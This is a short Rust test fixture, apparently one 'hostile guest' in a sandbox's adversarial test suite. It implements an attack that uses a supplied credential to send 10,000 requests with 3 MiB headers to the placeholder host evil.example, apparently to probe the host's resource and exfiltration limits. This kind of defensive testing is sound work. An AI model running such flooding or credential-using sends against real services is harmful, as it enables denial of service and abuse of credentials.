//! Hands as much to the host as it may, thousands of times.

use countersign_hostile_guests::{Asked, Attack, Credential, Header, guest, send};

struct HandsOverAgainAndAgain;

impl Attack for HandsOverAgainAndAgain {
    fn attempt(_: &Asked, by: &Credential) -> String {
        let headers = || vec![Header { name: "x".into(), value: "x".repeat(3 << 20) }];
        (0..10_000).for_each(|_| drop(send(by, "https://evil.example/", headers())));
        "handed over".to_owned()
    }
}

guest!(HandsOverAgainAndAgain);
